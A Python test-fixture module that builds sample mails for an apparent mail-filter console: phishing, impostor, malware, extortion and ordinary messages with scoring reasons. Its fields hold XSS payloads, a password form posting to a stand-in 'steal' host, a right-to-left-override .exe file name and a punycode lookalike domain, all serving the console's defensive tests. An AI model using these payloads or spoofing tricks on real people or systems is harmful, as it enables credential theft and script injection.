"""Mails for the console's tests: a dozen held ones of every category, hostile ones, and the day's other traffic."""

from dataclasses import dataclass
from textwrap import dedent

PRIOR = ("prior", -2.0, "What mail from strangers looks like on average")
BOB, ANA, ADMIN, MARIA = "bob@example.com", "ana@example.com", "admin@example.com", "maria@example.com"


@dataclass(frozen=True)
class Sample:
    """One mail and what was found in it."""

    key: str  #: last letters of its reception id
    name: str
    address: str
    subject: str
    category: str
    reasons: tuple[tuple[str, float, str], ...]
    body: str = "Dear reader,\n\nplease see above.\n"
    html: str = ""
    to: tuple[str, ...] = (ANA,)
    auth: str = "fail"  #: "pass", "fail" or "none"
    rule: str = ""
    minutes_ago: int = 10
    attachment: tuple[str, str, str] = ("", "", "")  #: file name, type, base64 text
    links: tuple[str, ...] = ()


FIRST = ("history.first", 0.6, "First mail ever from this address")
DMARC_FAIL = ("dmarc.fail", 0.9, "The sender's domain fails DMARC")
DMARC_PASS = ("dmarc.pass", -1.1, "The sender's domain passes DMARC")

HELD = (
    Sample(
        "qr",
        "IT desk",
        "it-desk@exarnple.com",
        "Scan to keep your mailbox",
        "phish",
        (
            ("name.lookalike", 2.2, "exarnple.com looks like your own example.com"),
            ("qr.link", 1.9, "A QR code leads to login.exarnple.com"),
            ("model.text", 1.1, "The text reads like phishing: keep, mailbox, expire"),
            FIRST,
            DMARC_FAIL,
            ("campaign.similar", 0.6, "12 similar mails in 20 minutes"),
            ("dkim.pass", -0.3, "Signed by exarnple.com"),
            ("list.none", 0.05, "No list headers"),
        ),
        body="Your mailbox is about to expire.\nScan the code below with your phone to keep it.\n\nIT desk\n",
        to=(ANA, BOB),
        minutes_ago=8,
        links=("login.exarnple.com",),
    ),
    Sample(
        "desk",
        "Maria Koch",
        "m.koch.office@freemail.example",
        "Are you at your desk?",
        "bec",
        (
            ("name.protected", 2.4, "“Maria Koch” is a protected name, and this is not her address"),
            FIRST,
            ("text.ask", 0.9, "Asks for a quick favour and no phone calls"),
            ("spf.pass", -0.1, "The host may send for freemail.example"),
            ("model.text", 0.3, "The text reads like an impostor's"),
        ),
        body="Hi,\n\nare you at your desk? I need a quick favour, I cannot talk on the phone right now.\n\nMaria\n",
        auth="pass",
        minutes_ago=21,
    ),
    Sample(
        "play",
        "City Theatre",
        "programme@citytheatre.example",
        "Your March programme and two premieres",
        "bulk",
        (
            ("model.text", 2.5, "The text reads like advertising"),
            ("link.many", 1.4, "31 links to 4 hosts"),
            ("html.mostly", 0.9, "Mostly pictures, little text"),
            DMARC_PASS,
            ("list.unsubscribe", -0.4, "Can be unsubscribed with one click"),
            ("bulk.precedence", 0.5, "Says that it is bulk mail"),
        ),
        body="Dear friends of the theatre,\n\nthe March programme is here: two premieres and a concert.\n",
        html=(
            "<table width=600 bgcolor=#fff><tr><td><h1>March</h1><p style='color:#444'>Two premieres and a concert.</p>"
            "<p><a href='https://citytheatre.example/tickets?c=88'>Get your tickets</a></p>"
            "<img src='https://pic.citytheatre.example/hall.jpg' alt='The hall'><img src='https://t.citytheatre.example/o.gif'"
            " width=1 height=1></td></tr></table>"
        ),
        auth="pass",
        minutes_ago=95,
        links=("citytheatre.example", "pic.citytheatre.example"),
    ),
    Sample(
        "sign",
        "DocuSign",
        "no-reply@docs-share.example",
        "Completed: contract 2026-114 needs your signature",
        "phish",
        (
            ("brand.claim", 1.8, "Claims to be DocuSign, but comes from docs-share.example"),
            ("link.lies", 1.7, "A link shows docusign.com and leads to docs-share.example"),
            FIRST,
            DMARC_FAIL,
            ("html.hidden", 0.7, "Hides 180 characters from the reader"),
            ("model.text", 0.5, "The text reads like phishing: review, signature, expires"),
        ),
        html=(
            "<p>You have a document to sign.</p><p><a href='https://docs-share.example/a/b?u=ana'>https://www.docusign.com/"
            "sign</a></p><div style='display:none'>hidden words that only a filter reads, invoice meeting regards</div>"
            "<form action='https://docs-share.example/steal'><input name=p type=password><button>Sign</button></form>"
            "<script>document.body.innerHTML='owned'</script>"
            "<img src='https://px.docs-share.example/1.png' onerror='alert(1)'>"
        ),
        minutes_ago=34,
        links=("docs-share.example", "px.docs-share.example"),
    ),
    Sample(
        "iso",
        "Accounts",
        "billing@supplier-invoices.example",
        "Overdue invoice 84311",
        "malware",
        (
            ("file.disk-image", 3.1, "The attachment invoice_84311.iso is a disk image"),
            FIRST,
            DMARC_FAIL,
            ("text.urgent", 0.8, "Presses for time: overdue, today, final"),
            ("received.odd", 0.3, "The path it claims cannot be"),
        ),
        body="Final reminder. See the attached invoice, payable today.\n",
        attachment=("invoice_84311.iso", "application/octet-stream", "Q0QwMDEBAAAA"),
        minutes_ago=51,
    ),
    Sample(
        "bank",
        "Première Bank",
        "security@xn--premire-bank-xjb.example",
        "Unusual sign-in from a new device",
        "phish",
        (
            ("name.lookalike", 2.6, "premiére-bank.example looks like premiere-bank.example"),
            ("link.punycode", 0.9, "A link's host is written in another alphabet"),
            FIRST,
            ("dmarc.none", 0.2, "The sender's domain has no DMARC policy"),
            ("model.text", 0.9, "The text reads like phishing: sign-in, verify, device"),
        ),
        body="A new device signed in. If this was not you: https://xn--premire-bank-xjb.example/verify\n",
        auth="none",
        minutes_ago=140,
        links=("xn--premire-bank-xjb.example",),
    ),
    Sample(
        "self",
        "Ana Ruiz",
        "ana@example.com",
        "Voicemail 00:43 from 0049 30 5550",
        "auth",
        (
            ("from.own-domain", 1.9, "Claims to come from your own domain, from outside"),
            DMARC_FAIL,
            ("spf.fail", 0.9, "The host may not send for example.com"),
            ("file.html", 0.8, "The attachment is a web page"),
        ),
        attachment=("voice_0043.html", "text/html", "PGgxPlBsYXk8L2gxPg=="),
        minutes_ago=170,
    ),
    Sample(
        "docm",
        "Petra Lang",
        "p.lang@partner-bank.example",
        "Updated schedule Q2",
        "policy",
        (
            ("file.macro", 1.0, "The attachment schedule_q2.docm holds macros"),
            DMARC_PASS,
            ("history.known", -1.6, "Known correspondent: 48 mails, none bad"),
        ),
        rule="file.macro",
        auth="pass",
        to=(BOB,),
        minutes_ago=200,
        attachment=("schedule_q2.docm", "application/vnd.ms-word.document.macroenabled.12", "UEsDBBQAAAAI"),
    ),
    Sample(
        "coin",
        "Your hacker",
        "you@yourself.example",
        "I recorded you",
        "spam",
        (
            ("text.extort", 2.9, "Demands payment in cryptocurrency"),
            FIRST,
            ("bayes", 1.3, "Words seen in unwanted mail: bitcoin, wallet, camera"),
            ("spf.softfail", 0.4, "The host is probably not allowed to send for yourself.example"),
        ),
        body="I have recorded you. Send 0.4 bitcoin to the wallet below within 48 hours.\n",
        minutes_ago=260,
    ),
    Sample(
        "parcel",
        "Parcel Service",
        "notice@parcel-redeliver.example",
        "Your parcel could not be delivered (2.99 due)",
        "phish",
        (
            ("brand.claim", 1.2, "Claims to be a parcel service"),
            ("link.young", 1.4, "Links to a domain that was not there last week"),
            FIRST,
            DMARC_FAIL,
            ("bayes", 0.9, "Words seen in unwanted mail: parcel, fee, redeliver"),
        ),
        to=(MARIA,),
        minutes_ago=310,
        links=("parcel-redeliver.example",),
    ),
    Sample(
        "script",
        '"><img src=x onerror=alert(1)>',
        "x'&b@evil.example",
        "<script>alert('subject')</script> & <b>bold</b>",
        "spam",
        (
            ("model.text", 3.6, "<script>alert('reason')</script>"),
            FIRST,
        ),
        body="<script>alert('body')</script>\n</pre><img src=x onerror=alert(2)>\n",
        html="<p onclick=alert(3)>hello<svg onload=alert(4)></svg><a href='javascript:alert(5)'>go</a></p>",
        attachment=("<img src=x onerror=alert(6)>.pdf", "application/pdf", "JVBERi0="),
        minutes_ago=400,
    ),
    Sample(
        "rlo",
        "Invoices \u202efdp.exe",
        "accounts@reverse.example",
        "Invoice \u202efdp.exe\u202c \u200bnow\x07",
        "malware",
        (
            ("file.direction", 2.8, "A file name hides its type: invoice_\u202efdp.exe"),
            FIRST,
            ("bayes", 1.0, "Words seen in unwanted mail: invoice"),
        ),
        attachment=("invoice_\u202efdp.exe", "application/octet-stream", "TVqQAAM="),
        minutes_ago=520,
    ),
)

OTHERS = (
    Sample(
        "ok1",
        "Jonas Weber",
        "jonas@partner.example",
        "Minutes of Tuesday",
        "ham",
        (("history.known", -1.8, "Known correspondent: 112 mails, none bad"), DMARC_PASS),
        auth="pass",
        minutes_ago=2,
    ),
    Sample(
        "ok2",
        "Bank",
        "login@bank.example",
        "Your code is 482 190",
        "ham",
        (
            ("mail.transaction", -0.9, "A message about something you did"),
            DMARC_PASS,
            ("text.code", 0.4, "Holds a code"),
        ),
        auth="pass",
        minutes_ago=3,
    ),
    Sample(
        "junk1",
        "Deals",
        "deals@shop.example",
        "48 h only: everything must go",
        "spam",
        (
            ("bayes", 2.6, "Words seen in unwanted mail: everything, offer"),
            ("history.none", 0.5, "No relation to the sender"),
        ),
        to=(BOB,),
        minutes_ago=5,
    ),
    Sample(
        "no1",
        "",
        "bounce@listed.example",
        "RE: RE: payment",
        "malware",
        (("file.exe", 5.2, "The attachment is a program"), ("ip.listed", 2.6, "The host is on a block list")),
        minutes_ago=6,
    ),
    Sample(
        "ok3",
        "Newsletter",
        "news@museum.example",
        "Spring at the museum",
        "bulk",
        (
            ("list.unsubscribe", -0.4, "Can be unsubscribed with one click"),
            ("bulk.precedence", 0.3, "Says that it is bulk mail"),
        ),
        auth="pass",
        to=(ANA, MARIA),
        minutes_ago=12,
    ),
)


def octets(sample: Sample) -> bytes:
    """The mail as it came over SMTP."""
    name = sample.name.replace("\\", "\\\\").replace('"', '\\"')
    sender = f'"{name}" <{sample.address}>' if name else sample.address
    head = (
        f"From: {sender}\nTo: {', '.join(sample.to)}\nSubject: {sample.subject}\n"
        f"Date: Mon, 2 Mar 2026 08:00:00 +0000\nMessage-ID: <{sample.key}@sender.example>\nMIME-Version: 1.0\n"
    )
    parts = [f"Content-Type: text/plain; charset=utf-8\n\n{sample.body}"]
    if sample.html:
        parts = [_multipart("alternative", [parts[0], f"Content-Type: text/html; charset=utf-8\n\n{sample.html}\n"])]
    file_name, file_type, encoded = sample.attachment
    if file_name:
        quoted = file_name.replace('"', '\\"')
        parts.append(
            dedent(f"""\
                Content-Type: {file_type}
                Content-Transfer-Encoding: base64
                Content-Disposition: attachment; filename="{quoted}"

                {encoded}
                """)
        )
    body = _multipart("mixed", parts) if len(parts) > 1 else parts[0]
    return (head + body).replace("\n", "\r\n").encode()


def _multipart(kind: str, parts: list[str]) -> str:
    edge = f"edge-{kind}"
    inner = "".join(f"--{edge}\n{part}\n" for part in parts)
    return f'Content-Type: multipart/{kind}; boundary="{edge}"\n\n{inner}--{edge}--\n'
